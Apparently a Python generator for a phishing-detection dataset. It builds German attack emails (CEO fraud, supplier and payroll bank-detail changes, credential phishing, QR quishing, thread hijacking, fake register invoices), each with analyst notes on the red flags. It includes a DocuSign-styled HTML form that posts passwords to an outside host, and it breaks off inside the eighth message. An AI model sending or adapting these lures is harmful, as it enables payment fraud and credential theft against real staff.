"""German attack messages 01-08."""
import banking as bk
import files
import infra as I
import qr
from common import Mail, T, plus, rdate, addr, hval, text, attach, multipart, alt, html_doc, html_text, S, paras_to_html


def a01():
    m = Mail("attack", 1, "de", "ceo-fraud-vertrauliche-akquisition")
    ids = m.ids
    t = T("2026-10-13 07:41:12")
    cfo = S("cfo")
    sender = "j.hoelscher.vorstand@web.de"
    rec, app = I.webde(ids, t, cfo.email, "37.120.156.84")
    body = text(
        "Liebe Frau Weiß,\n\n"
        "ich schreibe Ihnen von meiner privaten Adresse, da ich heute in Zürich in Gesprächen bin "
        "und keinen Zugriff auf das Firmennetz habe.\n\n"
        "Wir stehen kurz vor dem Signing für die Übernahme eines Solarpark-Portfolios in Portugal "
        "(Projekt „Nordstern“, 212 MWp). Der Vorstand ist eingebunden, der Aufsichtsrat wird erst nach "
        "Unterzeichnung informiert. Bis dahin gilt strikte Vertraulichkeit – bitte sprechen Sie das Thema "
        "weder mit Ihrem Team noch mit Frau Schäfer an und rufen Sie mich auch nicht auf dem Diensthandy an, "
        "die Leitung nutzen wir während der Verhandlungen bewusst nicht.\n\n"
        "Für die Exklusivitätsvereinbarung ist heute noch eine Anzahlung von 486.500,00 EUR auf das "
        "Treuhandkonto der begleitenden Kanzlei zu leisten. Rechtsanwalt Dr. Marc Lehnert wird sich im Laufe "
        "der nächsten Stunde per E-Mail bei Ihnen melden und Ihnen das Treuhandschreiben mit den Kontodaten "
        "übermitteln.\n\n"
        "Können Sie die Zahlung heute noch als Eilüberweisung ausführen? Bitte bestätigen Sie mir kurz per "
        "Mail, dass Sie sich darum kümmern, und nennen Sie mir die Liquidität, die wir heute auf dem "
        "Hauptkonto disponieren können.\n\n"
        "Vielen Dank für Ihre Diskretion.\n\n"
        "Beste Grüße\nJürgen Hölscher\n", "plain", "utf-8", "quoted-printable", quote=False)
    hs = [
        ("MIME-Version", "1.0"),
        ("Message-ID", ids.mid_trinity(app, t)),
        ("From", addr("Dr. Jürgen Hölscher", sender, "utf-8", "Q", "UTF-8")),
        ("To", addr("Katrin Weiß", cfo.email, "utf-8", "Q", "UTF-8")),
        ("Subject", hval("Vertraulich – Projekt Nordstern", "utf-8", "Q", "UTF-8")),
        ("Date", rdate(t, "CE")),
        ("Importance", "normal"),
        ("Sensitivity", "Normal"),
        ("X-Priority", "3"),
        ("X-Provags-ID", "V03:K1:" + ids.b64(60)),
        ("X-UI-Message-Type", "mail"),
        ("UI-OutboundReport", "notjunk:1;M01:P0:" + ids.b64(40)),
    ]
    return m.finish("<%s>" % sender, rec, hs, body,
        "CEO fraud: 'Dr. Jürgen Hölscher' on a web.de free-mail account asks the CFO to wire EUR 486,500 to a lawyer's escrow for a secret acquisition",
        "Display-name impersonation of the CEO from a free mailer; secrecy towards colleagues, explicit ban on calling back, same-day urgency, an announced 'lawyer' (continued in attack 15) and a request for liquidity figures. Classic BEC; the genuine CEO payment request comes through the internal relay (business 03).",
        "business/03")


def a02():
    m = Mail("attack", 2, "de", "lieferant-bankverbindung-lookalike")
    ids = m.ids
    t = T("2026-10-20 12:07:44")
    ap = S("ap")
    dom = "lieferant-gmhb.de"
    sender = "rechnungen@" + dom
    new_iban = bk.iban("LT", "32500" + "18437609215")
    rec = [
        I.mx(ids, "mail." + dom, "vmi2284731.contaboserver.net", "185.217.125.41", ap.email, plus(t, 2)),
        I.postfix(ids, "mail." + dom, "localhost", "localhost", "127.0.0.1", plus(t, 1), zone="UTC", auth=True),
    ]
    body_txt = (
        "Sehr geehrte Frau Brückner,\n\n"
        "im Zuge der Neuordnung unseres Zahlungsverkehrs wird unsere bisherige Bankverbindung bei der "
        "Sparkasse Bielefeld zum 31.10.2026 aufgelöst. Wir bitten Sie, sämtliche Zahlungen ab sofort "
        "ausschließlich auf unser neues Geschäftskonto zu leisten:\n\n"
        "Kontoinhaber: Lieferant GmbH\n"
        "Bank: Revolut Bank UAB\n"
        "IBAN: %s\n"
        "BIC: REVOLT21\n\n"
        "Die Rechnungen RE-2026-10418 (18.340,62 EUR, Smart-Meter-Gateways) und RE-2026-10502 "
        "(7.915,00 EUR, Zählerschränke) sind bereits fällig. Bitte überweisen Sie diese Beträge bereits auf "
        "die neue Verbindung – Zahlungen auf das alte Konto können ab sofort nicht mehr zugeordnet werden "
        "und werden zurückgebucht.\n\n"
        "Die Bestätigung unserer Bank finden Sie im Anhang. Wegen der Umstellung unserer Telefonanlage sind "
        "wir telefonisch derzeit nur eingeschränkt erreichbar; Rückfragen richten Sie bitte ausschließlich "
        "per E-Mail an diese Adresse.\n\n"
        "Für eine kurze Bestätigung der Änderung in Ihrem Kreditorenstamm wären wir Ihnen dankbar.\n\n"
        "Mit freundlichen Grüßen\n\n"
        "i. A. Sandra Köster\nFinanzbuchhaltung\n\n"
        "Lieferant GmbH | Messtechnik & Zählerplatzsysteme\n"
        "Gewerbepark Ost 12 | 33699 Bielefeld\n"
        "Amtsgericht Bielefeld HRB 40711 | Geschäftsführer: Klaus Tegeler\n") % bk.fmt_iban(new_iban)
    pdfb = files.pdf([
        "# Bestätigung der Kontoverbindung",
        "",
        "Hiermit bestätigen wir, dass für den nachstehenden Kontoinhaber ein Geschäftskonto eröffnet wurde.",
        "",
        "## Kontoinhaber: Lieferant GmbH, Gewerbepark Ost 12, 33699 Bielefeld",
        "IBAN: " + bk.fmt_iban(new_iban),
        "BIC: REVOLT21",
        "Kontoart: Business Account (EUR)",
        "Eröffnungsdatum: 14.10.2026",
        "",
        "Dieses Schreiben wurde maschinell erstellt und ist ohne Unterschrift gültig.",
        "Revolut Bank UAB, Konstitucijos ave. 21B, 08130 Vilnius, Litauen",
    ], title="Kontobestaetigung", author="Revolut Business", creator="Revolut", producer="iText 7.2.5",
        created="20261014101500+02'00'")
    b1 = "=_%s" % ids.hex(32)
    body = multipart("mixed", [
        text(body_txt, "plain", "windows-1252", "quoted-printable", quote=False,
             flowed=True),
        attach(pdfb, "application/pdf", "Bankbestaetigung_Lieferant_GmbH.pdf", cte="base64"),
    ], b1)
    hs = [
        ("MIME-Version", "1.0"),
        ("Date", rdate(t, "CE")),
        ("From", "Lieferant GmbH Buchhaltung <%s>" % sender),
        ("To", addr("Monika Brückner", ap.email, "iso-8859-1", "Q", "ISO-8859-1")),
        ("Cc", "rechnungseingang@example.com"),
        ("Subject", hval("Änderung unserer Bankverbindung – bitte ab sofort berücksichtigen", "utf-8", "Q", "UTF-8")),
        ("Message-ID", ids.mid_hexat(dom)),
        ("X-Sender", sender),
        ("User-Agent", "Roundcube Webmail/1.6.9"),
        ("Content-Type", None),
    ]
    hs = [h for h in hs if h[1] is not None]
    return m.finish("<%s>" % sender, rec, hs, body,
        "Supplier bank-detail change from look-alike domain lieferant-gmhb.de (real: lieferant-gmbh.de): 'please pay all invoices to new Revolut LT account', fake bank confirmation PDF",
        "Look-alike domain (transposed 'gmhb') hosted on a Contabo VPS with Roundcube; German supplier suddenly banking in Lithuania; names real open invoices to create urgency, asks to pay due invoices now, forbids telephone verification. Textbook vendor-email-compromise; the properly announced genuine change is business 02.",
        "business/02")


def a03():
    m = Mail("attack", 3, "de", "hknr-umweltbundesamt-phishing")
    ids = m.ids
    t = T("2026-10-22 06:03:51")
    rc = S("certs")
    dom = "hknr-uba.de"
    rec, mid, extra = I.sendgrid(ids, t, rc.email, "o1.ptr4412.hknr-uba.de")
    click = "https://u48839217.ct.sendgrid.net/ls/click?upn=u001.%s" % ids.alnum(120, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    plain = (
        "Umweltbundesamt – Herkunfts- und Regionalnachweisregister (HKNR)\n\n"
        "Sehr geehrte Kontoinhaberin, sehr geehrter Kontoinhaber,\n\n"
        "mit der Umstellung des HKNR auf das neue Anmeldeverfahren müssen alle Kontobevollmächtigten ihren "
        "Zugang erneut bestätigen. Für das Konto\n\n"
        "  Example Group SE – Kontonummer HKNR-DE-0044172\n\n"
        "wurde die Bestätigung bislang nicht abgeschlossen.\n\n"
        "Nicht bestätigte Konten werden ab dem 06.11.2026 für Übertragungen, Importe und Entwertungen "
        "gesperrt. Bereits beantragte Entwertungen für die Stromkennzeichnung des Lieferjahres 2026 "
        "könnten dann nicht fristgerecht bearbeitet werden.\n\n"
        "Bitte melden Sie sich bis zum 06.11.2026 an und bestätigen Sie die hinterlegten "
        "Kontobevollmächtigten:\n\n"
        "Zugang bestätigen: %s\n\n"
        "Die Bestätigung dauert etwa zwei Minuten. Halten Sie Ihre Zugangsdaten und Ihr zweites "
        "Authentifizierungsmerkmal bereit.\n\n"
        "Mit freundlichen Grüßen\n"
        "Ihr HKNR-Team\n\n"
        "Umweltbundesamt | Wörlitzer Platz 1 | 06844 Dessau-Roßlau\n"
        "Diese E-Mail wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese Nachricht.\n") % click
    html = html_doc(
        '<table width="600" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333">\n'
        '<tr><td style="background:#005f85;color:#fff;padding:14px 20px;font-size:16px"><b>Umweltbundesamt</b><br>'
        'Herkunfts- und Regionalnachweisregister</td></tr>\n<tr><td style="padding:20px">'
        '<p>Sehr geehrte Kontoinhaberin, sehr geehrter Kontoinhaber,</p>'
        '<p>mit der Umstellung des HKNR auf das neue Anmeldeverfahren müssen alle Kontobevollmächtigten ihren Zugang erneut bestätigen. '
        'Für das Konto <b>Example Group SE – HKNR-DE-0044172</b> wurde die Bestätigung bislang nicht abgeschlossen.</p>'
        '<p>Nicht bestätigte Konten werden ab dem <b>06.11.2026</b> für Übertragungen, Importe und Entwertungen gesperrt. '
        'Bereits beantragte Entwertungen für die Stromkennzeichnung des Lieferjahres 2026 könnten dann nicht fristgerecht bearbeitet werden.</p>'
        '<p style="text-align:center;margin:28px 0"><a href="%s" style="background:#005f85;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Zugang bestätigen</a></p>'
        '<p>Die Bestätigung dauert etwa zwei Minuten. Halten Sie Ihre Zugangsdaten und Ihr zweites Authentifizierungsmerkmal bereit.</p>'
        '<p>Mit freundlichen Grüßen<br>Ihr HKNR-Team</p></td></tr>\n'
        '<tr><td style="font-size:11px;color:#777;padding:10px 20px;border-top:1px solid #ddd">Umweltbundesamt | Wörlitzer Platz 1 | 06844 Dessau-Roßlau<br>'
        'Diese E-Mail wurde automatisch erzeugt.</td></tr></table>\n'
        '<img src="https://u48839217.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0">' % (click, ids.alnum(60)))
    body = alt(text(plain, "plain", "utf-8", "quoted-printable"),
               html_text(html, "utf-8", "quoted-printable"), ids.hex(60)[:60])
    hs = [
        ("Content-Type", None),
        ("Date", rdate(t, "UTC", day="pad0")),
        ("From", hval("Umweltbundesamt – HKNR", "utf-8", "Q") + " <noreply@%s>" % dom),
        ("Mime-Version", "1.0"),
        ("Message-ID", mid),
        ("Subject", hval("HKNR: Bestätigung Ihres Kontozugangs bis 06.11.2026 erforderlich", "utf-8", "Q")),
        ("Reply-To", "noreply@" + dom),
    ] + extra + [("To", rc.email)]
    hs = [h for h in hs if h[1] is not None]
    return m.finish("<bounces+48839217-%s-%s=example.com@em4412.%s>" % (ids.hex(4), rc.email.split("@")[0], dom),
                     rec, hs, body,
        "Credential phishing against the guarantees-of-origin team: fake Umweltbundesamt HKNR (Herkunftsnachweisregister) 'confirm your account access or transfers/cancellations are blocked'",
        "Trade-specific: HKNR accounts hold tradable guarantees of origin. Sender domain hknr-uba.de is not uba.de, mail sent through SendGrid with click-tracking link hiding the target, deadline + blocking threat, asks for credentials and second factor.",
        "business/08")


def a04():
    m = Mail("attack", 4, "de", "quishing-m365-mfa-kanzlei")
    ids = m.ids
    t = T("2026-10-27 08:18:30")
    rc = S("hr")
    dom = "stb-berger-kollegen.de"
    host = "srv08.ws-hosting24.de"
    import base64
    target = "https://mfa-m365.stb-berger-kollegen.de/wp-content/uploads/2026/10/auth/?u=" + \
        base64.b64encode(rc.email.encode()).decode()
    png = qr.qr_png(target, "M", scale=5)
    rec = [
        I.mx(ids, host, host, "212.114.110.37", rc.email, plus(t, 1), tls="1.2"),
        I.postfix_local(ids, host, t),
    ]
    cid = "qr_%s@%s" % (ids.hex(12), dom)
    plain = (
        "Microsoft 365\n\n"
        "Aktion erforderlich: Erneute Registrierung der Mehrstufigen Authentifizierung\n\n"
        "Hallo Sabine Köhler,\n\n"
        "im Rahmen der von Microsoft angekündigten Umstellung der Authentifizierungsmethoden müssen alle "
        "Benutzer von example.com ihre Anmeldemethoden bis zum 29.10.2026 neu bestätigen. "
        "Nach Ablauf der Frist wird der Zugriff auf Outlook, Teams und OneDrive vorübergehend eingeschränkt.\n\n"
        "Scannen Sie den QR-Code in dieser Nachricht mit der Kamera Ihres Smartphones und folgen Sie den "
        "Anweisungen. Der Vorgang dauert weniger als zwei Minuten.\n\n"
        "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    html = html_doc(
        '<div style="font-family:Segoe UI,Arial,sans-serif;max-width:560px;color:#252423">\n'
        '<p style="font-size:15px;color:#737373">Microsoft 365</p>\n'
        '<h2 style="font-weight:600">Aktion erforderlich: Erneute Registrierung der Mehrstufigen Authentifizierung</h2>\n'
        '<p>Hallo Sabine Köhler,</p>\n'
        '<p>im Rahmen der von Microsoft angekündigten Umstellung der Authentifizierungsmethoden müssen alle Benutzer von '
        '<b>example.com</b> ihre Anmeldemethoden bis zum <b>29.10.2026</b> neu bestätigen. Nach Ablauf der Frist wird der Zugriff '
        'auf Outlook, Teams und OneDrive vorübergehend eingeschränkt.</p>\n'
        '<p>Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones:</p>\n'
        '<p><img src="cid:%s" width="185" height="185" alt="QR"></p>\n'
        '<p style="font-size:12px;color:#737373">Der Vorgang dauert weniger als zwei Minuten. Diese Nachricht wurde von einer '
        'nicht überwachten Adresse gesendet.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>\n</div>' % cid,
        "de")
    b_alt, b_rel = "b2_" + ids.hex(32), "b1_" + ids.hex(32)
    body = multipart("related", [
        alt(text(plain, "plain", "iso-8859-1", "base64"), html_text(html, "iso-8859-1", "base64"), b_alt),
        attach(png, "image/png", "qr.png", cte="base64", disposition="inline", cid=cid),
    ], b_rel, extra_params=[("type", "multipart/alternative", True)])
    hs = [
        ("Date", rdate(t, "CE")),
        ("To", rc.email),
        ("From", "Microsoft 365 Administrator <noreply@%s>" % dom),
        ("Subject", hval("Aktion erforderlich: MFA-Registrierung läuft am 29.10.2026 ab", "iso-8859-1", "Q")),
        ("Message-ID", ids.mid_phpmailer(dom)),
        ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
        ("MIME-Version", "1.0"),
    ]
    return m.finish("<www-data@%s>" % host, rec, hs, body,
        "Quishing: 'Microsoft 365 Administrator' demands MFA re-registration by scanning an inline QR code; sent by a PHP script on a compromised tax adviser's web host",
        "Microsoft branding from an unrelated small firm's domain, injected by the web server user (Postfix 'from userid 33', PHPMailer); the QR code (decodable PNG) points to a page under wp-content/uploads carrying the victim's address base64-encoded — an AiTM login kit. QR used to move the click to an unmanaged phone.",
        "business/14", structure_note="inline QR decodes to the wp-content/uploads AiTM URL")


def a05():
    m = Mail("attack", 5, "de", "gehaltskonto-aenderung-freemail")
    ids = m.ids
    t = T("2026-11-04 15:52:08")
    hr = S("hr")
    sender = "anja.vogt.1987@gmx.de"
    rec, app = I.webde(ids, t, hr.email, "92.118.39.140", brand="gmx")
    new_iban = bk.iban("DE", "10011001" + "2637119846")
    body = text(
        "Hallo Frau Köhler,\n\n"
        "ich habe mein Gehaltskonto gewechselt und möchte, dass mein Gehalt ab der Novemberabrechnung "
        "auf das neue Konto überwiesen wird:\n\n"
        "Kontoinhaberin: Anja Vogt\n"
        "IBAN: %s\n"
        "BIC: NTSBDEB1XXX\n\n"
        "Ich schreibe Ihnen von meiner privaten Adresse, weil ich diese Woche im Außendienst bei Kunden "
        "im Münsterland bin und mit dem Laptop nicht ins VPN komme. Das Formular im Personalportal kann "
        "ich deshalb gerade nicht ausfüllen – reicht Ihnen die Mitteilung per Mail? Telefonisch bin ich "
        "leider kaum zu erreichen, ich sitze von Termin zu Termin.\n\n"
        "Das alte Konto bei der Sparkasse wird zum Monatsende aufgelöst, deshalb wäre es wichtig, dass die "
        "Änderung noch vor dem Abrechnungslauf drin ist. Können Sie mir kurz bestätigen, wenn alles "
        "eingetragen ist?\n\n"
        "Vielen Dank und viele Grüße\nAnja Vogt\n" % bk.fmt_iban(new_iban),
        "plain", "utf-8", "quoted-printable")
    hs = [
        ("MIME-Version", "1.0"),
        ("Message-ID", ids.mid_trinity(app, t)),
        ("From", "Anja Vogt <%s>" % sender),
        ("To", addr("Sabine Köhler", hr.email, "utf-8", "Q", "UTF-8")),
        ("Subject", "Neue Bankverbindung Gehalt"),
        ("Date", rdate(t, "CE")),
        ("Importance", "normal"),
        ("Sensitivity", "Normal"),
        ("X-Priority", "3"),
        ("X-Provags-ID", "V03:K1:" + ids.b64(60)),
        ("X-UI-Message-Type", "mail"),
        ("UI-OutboundReport", "notjunk:1;M01:P0:" + ids.b64(40)),
    ]
    return m.finish("<%s>" % sender, rec, hs, body,
        "Payroll diversion: 'Anja Vogt' (sales) writes from an unknown GMX address asking HR to pay her salary into a new N26 account from the November run",
        "Employee impersonation from a free mailer never used before; deliberately bypasses the HR self-service portal and a phone call ('VPN not working', 'back-to-back appointments'); new neobank IBAN; time pressure before payroll; asks for confirmation by mail. Compare the genuine private-mail sick note (business 04).",
        "business/04")


def _quote_lines(txt):
    return "\n".join(("> " + l) if l else ">" for l in txt.split("\n"))


THREAD_DE = [
    # (author, sender address, date string, text)
    ("Deubel, Frank", "frank.deubel@example.com", "Montag, 2. November 2026 10:14",
     "Hallo Frau Lang,\n\nvielen Dank für den Entwurf. Für Q1/2027 benötigen wir wie besprochen 1.200 "
     "Smart-Meter-Gateways und 340 Zählerschränke, Anlieferung in drei Tranchen an das Lager Gelsenkirchen.\n"
     "Können Sie uns bis Ende der Woche den finalen Lieferplan mit den Kalenderwochen schicken?\n\n"
     "Viele Grüße\nFrank Deubel\nEinkauf | Example Group SE"),
    ("Petra Lang", "p.lang@lieferant-gmbh.de", "Dienstag, 3. November 2026 08:47",
     "Guten Morgen Herr Deubel,\n\ndanke, die Mengen passen. Die Gateways der ersten Tranche können wir in "
     "KW 3 liefern, die Zählerschränke voraussichtlich KW 4. Den finalen Plan stimme ich noch mit unserer "
     "Fertigung ab und melde mich.\n\nMit freundlichen Grüßen\nPetra Lang\nAuftragsabwicklung\nLieferant GmbH"),
]


def a06():
    m = Mail("attack", 6, "de", "thread-hijack-lieferant-kompromittiert")
    ids = m.ids
    t = T("2026-11-05 03:12:40")
    rc = S("proc")
    dom = "lieferant-gmbh.de"
    rec = [
        I.mx(ids, "mail.lieferant-gmbh.de", "mail.lieferant-gmbh.de", "85.214.132.117", rc.email, plus(t, 2)),
        I.postfix(ids, "mail.lieferant-gmbh.de", "[127.0.0.1]", None, "45.137.21.166", plus(t, 1), tls="1.2", auth=True),
    ]
    link = "https://lieferantgmbh-sharepoint.pages.dev/:b:/g/personal/p_lang/EYx7rQ2kLm9PgT5?e=Ks7Vd2"
    quoted_prev = ("Von: Petra Lang <p.lang@lieferant-gmbh.de>\nGesendet: %s\nAn: Deubel, Frank "
                   "<frank.deubel@example.com>\nBetreff: AW: Lieferplan SMGW und Zählerschränke Q1/2027\n\n%s\n\n"
                   "Von: Deubel, Frank <frank.deubel@example.com>\nGesendet: %s\nAn: Petra Lang "
                   "<p.lang@lieferant-gmbh.de>\nBetreff: Lieferplan SMGW und Zählerschränke Q1/2027\n\n%s" % (
                       THREAD_DE[1][2], THREAD_DE[1][3], THREAD_DE[0][2], THREAD_DE[0][3]))
    plain = (
        "Hallo Herr Deubel,\n\n"
        "anbei wie besprochen die überarbeiteten Unterlagen zum Lieferplan Q1/2027 inklusive der angepassten "
        "Konditionen für die Zählerschränke. Wegen der Dateigröße habe ich Ihnen das Dokument über unseren "
        "SharePoint freigegeben.\n\n"
        "Bitte melden Sie sich mit Ihrem Firmenkonto an, um das Dokument zu öffnen:\n"
        "Lieferplan_Q1-2027_Konditionen.pdf (2,4 MB)\n%s\n\n"
        "Bitte geben Sie mir bis heute Mittag eine Rückmeldung, damit wir die Fertigung einplanen können.\n\n"
        "Mit freundlichen Grüßen\nPetra Lang\n\n" % link) + quoted_prev
    html = html_doc(
        '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">'
        '<p>Hallo Herr Deubel,</p><p>anbei wie besprochen die überarbeiteten Unterlagen zum Lieferplan Q1/2027 inklusive der '
        'angepassten Konditionen für die Zählerschränke. Wegen der Dateigröße habe ich Ihnen das Dokument über unseren SharePoint freigegeben.</p>'
        '<table style="border:1px solid #c8c6c4;padding:10px;width:380px"><tr><td>'
        '<span style="color:#b7472a;font-weight:bold">PDF</span>&nbsp; <b>Lieferplan_Q1-2027_Konditionen.pdf</b><br>'
        '<span style="color:#605e5c;font-size:9pt">Petra Lang hat eine Datei für Sie freigegeben</span><br><br>'
        '<a href="%s" style="background:#0078d4;color:#fff;padding:7px 18px;text-decoration:none">Öffnen</a></td></tr></table>'
        '<p>Bitte geben Sie mir bis heute Mittag eine Rückmeldung, damit wir die Fertigung einplanen können.</p>'
        '<p>Mit freundlichen Grüßen<br>Petra Lang</p><hr>'
        '<div style="color:#444">%s</div></div>' % (link, "<br>\n".join(
            l.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") for l in quoted_prev.split("\n"))))
    body = alt(text(plain, "plain", "utf-8", "base64"), html_text(html, "utf-8", "base64"),
               "----=_Part_%d_%d.%d" % (ids.r.randrange(10 ** 5), ids.r.randrange(10 ** 9), 1730000000000 + ids.r.randrange(10 ** 9)))
    prev_ids = ["<%s@EXG-MBX01.corp.example.com>" % ids.hex(32),
                "<003a01dc4d5e$9b1c2a40$d15a7ec0$@lieferant-gmbh.de>"]
    hs = [
        ("Date", rdate(t, "CE")),
        ("From", "Petra Lang <p.lang@%s>" % dom),
        ("To", '"Deubel, Frank" <%s>' % rc.email),
        ("Message-ID", "<%s.%d.%d@DESKTOP-U8K3RQ1>" % (ids.hex(8), ids.r.randrange(10 ** 6), 1793000000000 + ids.r.randrange(10 ** 9))),
        ("In-Reply-To", prev_ids[1]),
        ("References", prev_ids[0] + "\n " + prev_ids[1]),
        ("Subject", hval("AW: Lieferplan SMGW und Zählerschränke Q1/2027", "utf-8", "B", "UTF-8")),
        ("MIME-Version", "1.0"),
    ]
    return m.finish("<p.lang@%s>" % dom, rec, hs, body,
        "Thread hijack from the genuinely compromised mailbox of Petra Lang (Lieferant GmbH): reply in the real 'Lieferplan Q1/2027' thread with a fake SharePoint share hosted on pages.dev",
        "Real sender domain and real quoted conversation, but submitted at 04:12 via SMTP AUTH from a foreign hosting IP (45.137.21.166, no rDNS) instead of her Outlook client; generic Message-ID host DESKTOP-U8K3RQ1; 'SharePoint' link actually points to lieferantgmbh-sharepoint.pages.dev and asks for company credentials; deadline 'by noon'. Genuine reply in the same thread: business 05.",
        "business/05")


def a07():
    m = Mail("attack", 7, "de", "firmenregister-angebot-girocode")
    ids = m.ids
    t = T("2026-11-10 09:31:17")
    rcpt = "rechnungseingang@example.com"
    dom = "drb-register.de"
    rec, mid, extra = I.mailgun(ids, t, rcpt, "mg." + dom)
    iban_s = bk.iban("FR", bk.fr_bban("16958", "00001", "48219375106"))
    amount = 1348.70
    ref = "2026-HR-884120"
    epc = qr.epc_payload("DRB Register Services SARL", iban_s, amount, "Vorgang %s HRB 21874" % ref, bic="QNTOFRP1XXX")
    png = qr.qr_png(epc, "M", scale=5)
    plain = (
        "Sehr geehrte Damen und Herren,\n\n"
        "aufgrund der im Handelsregister des Amtsgerichts Essen unter HRB 21874 veröffentlichten Änderung "
        "(Bekanntmachung vom 29.10.2026) haben wir die Eintragung Ihrer Unternehmensdaten in das "
        "Deutsche Register für Bekanntmachungen (DRB) vorbereitet.\n\n"
        "Vorgang:           %s\n"
        "Unternehmen:       Example Group SE, Essen\n"
        "Leistungszeitraum: 12 Monate ab Zahlungseingang\n"
        "Gesamtbetrag:      1.348,70 EUR (inkl. USt.)\n\n"
        "Die Zahlungsaufforderung finden Sie als PDF im Anhang. Bitte überweisen Sie den Betrag innerhalb "
        "von 8 Tagen unter Angabe des Vorgangs. Für eine bequeme Zahlung scannen Sie einfach den "
        "beigefügten GiroCode mit Ihrer Banking-App.\n\n"
        "Mit freundlichen Grüßen\nIhr DRB-Team\n\n"
        "DRB Register Services | Service-Center Deutschland\n"
        "Hinweis: Die Eintragung in das DRB ist ein privates Verzeichnisangebot und steht in keinem "
        "Zusammenhang mit amtlichen Bekanntmachungen. Ein Vertrag kommt erst mit Zahlung zustande.\n") % ref
    pdfb = files.pdf([
        "# Zahlungsaufforderung",
        "Vorgang: %s        Datum: 10.11.2026" % ref,
        "",
        "Example Group SE",
        "Huttropstraße 60",
        "45138 Essen",
        "",
        "## Eintragung / Aktualisierung Unternehmensdaten – Registerauszug HRB 21874, AG Essen",
        "Leistung: Eintragung und Veröffentlichung im DRB-Unternehmensverzeichnis, Laufzeit 12 Monate",
        "Nettobetrag:          1.133,36 EUR",
        "zzgl. 19 % USt.:        215,34 EUR",
        "## Gesamtbetrag:      1.348,70 EUR",
        "",
        "Zahlbar innerhalb von 8 Tagen ohne Abzug auf:",
        "Empfänger: DRB Register Services SARL",
        "IBAN: " + bk.fmt_iban(iban_s) + "    BIC: QNTOFRP1XXX",
        "Verwendungszweck: " + ref,
        "",
        "Mit der Zahlung erteilen Sie den Auftrag zur Eintragung gemäß unseren AGB (www.drb-register.de/agb).",
        "Die Eintragung ist freiwillig. Das DRB ist kein amtliches Register und keine Behörde.",
    ], title="Zahlungsaufforderung " + ref, author="DRB", creator="wkhtmltopdf 0.12.6",
        producer="Qt 5.15.2", created="20261110083000+01'00'")
    b = "%s" % ids.hex(28)
    body = multipart("mixed", [
        text(plain, "plain", "iso-8859-15", "quoted-printable", quote=False),
        attach(pdfb, "application/pdf", "Zahlungsaufforderung_%s.pdf" % ref),
        attach(png, "image/png", "GiroCode_%s.png" % ref),
    ], b)
    hs = [
        ("Date", rdate(t, "GMT")),
        ("From", "DRB Deutsches Register <service@%s>" % dom),
        ("To", rcpt),
        ("Subject", hval("Eintragung HRB 21874 – Bekanntmachung und Datenabgleich, Vorgang " + ref, "iso-8859-15", "Q")),
        ("Message-Id", mid),
        ("Mime-Version", "1.0"),
    ] + extra
    return m.finish("<bounce+%s.%s-%s=example.com@mg.%s>" % (ids.hex(6), ids.hex(6), "rechnungseingang", dom),
                     rec, hs, body,
        "Fake register 'invoice': DRB 'Deutsches Register für Bekanntmachungen' bills EUR 1,348.70 after a Handelsregister publication; PDF + GiroCode (EPC QR) to a French Qonto account",
        "Offer disguised as an official invoice triggered by a public register entry; the only disclaimer ('private directory, contract only upon payment') is in small print; bulk ESP (Mailgun); the EPC QR (real, decodable) pre-fills a transfer to a foreign neobank. Compare the genuine supplier invoice with GiroCode (business 01).",
        "business/01", structure_note="PNG is an EPC069-12 GiroCode (BCD/002/SCT) for EUR 1,348.70 to FR76 1695 8…")


def a08():
    m = Mail("attack", 8, "de", "docusign-html-anhang-autohaus")
    ids = m.ids
    t = T("2026-11-17 10:44:02")
    rc = S("sales")
    dom = "autohaus-wendt.de"
    host = "w0193a4c.kasserver.com"
    rec = [
        I.mx(ids, host, host, "85.13.155.82", rc.email, plus(t, 2)),
        I.postfix(ids, host, "[192.168.43.201]", None, "91.92.251.30", plus(t, 1), tls="1.3", auth=True,
                  rcpt=rc.email),
    ]
    env = ids.uuid(True)
    form = ("<!DOCTYPE html>\n<html lang=\"de\"><head><meta charset=\"utf-8\">\n"
            "<title>DocuSign – Dokument überprüfen</title>\n"
            "<style>body{font-family:Helvetica,Arial,sans-serif;background:#f4f4f4}"
            ".box{width:420px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #ffc820}"
            "input{width:100%%;padding:9px;margin:6px 0 14px;border:1px solid #ccc}"
            "button{background:#ffc820;border:0;padding:11px 24px;font-weight:bold}</style></head>\n"
            "<body><div class=\"box\"><img alt=\"DocuSign\" src=\"https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/ds-logo-default.svg\" width=\"120\">\n"
            "<h3>Stromliefervertrag 2027–2029 – Example Group SE.pdf</h3>\n"
            "<p>Umschlag-ID: %s</p>\n"
            "<p>Aus Sicherheitsgründen bestätigen Sie bitte Ihre E-Mail-Adresse, um das Dokument anzuzeigen und zu unterzeichnen.</p>\n"
            "<form method=\"post\" action=\"https://docsign-envelope.eu-fra1.cdn-clouddocs.click/v2/review.php\">\n"
            "<input type=\"hidden\" name=\"env\" value=\"%s\">\n"
            "<label>E-Mail</label><input type=\"email\" name=\"login\" value=\"%s\">\n"
            "<label>Kennwort</label><input type=\"password\" name=\"passwd\">\n"
            "<button type=\"submit\">DOKUMENT ÜBERPRÜFEN</button></form>\n"
            "<p style=\"font-size:11px;color:#777\">Powered by DocuSign. Geben Sie diesen Link nicht weiter.</p>\n"
            "</div></body></html>\n") % (env, env, rc.email)
    plain = (
        "DocuSign\n\n"
        "Autohaus Wendt GmbH hat Ihnen ein Dokument zur Prüfung und Unterzeichnung gesendet.\n\n"
        "Dokument: Stromliefervertrag 2027–2029 – Example Group SE\n"
        "Umschlag-ID: %s\n\n"
        "Bitte öffnen Sie den Anhang, um das Dokument zu überprüfen und zu unterzeichnen.\n\n"
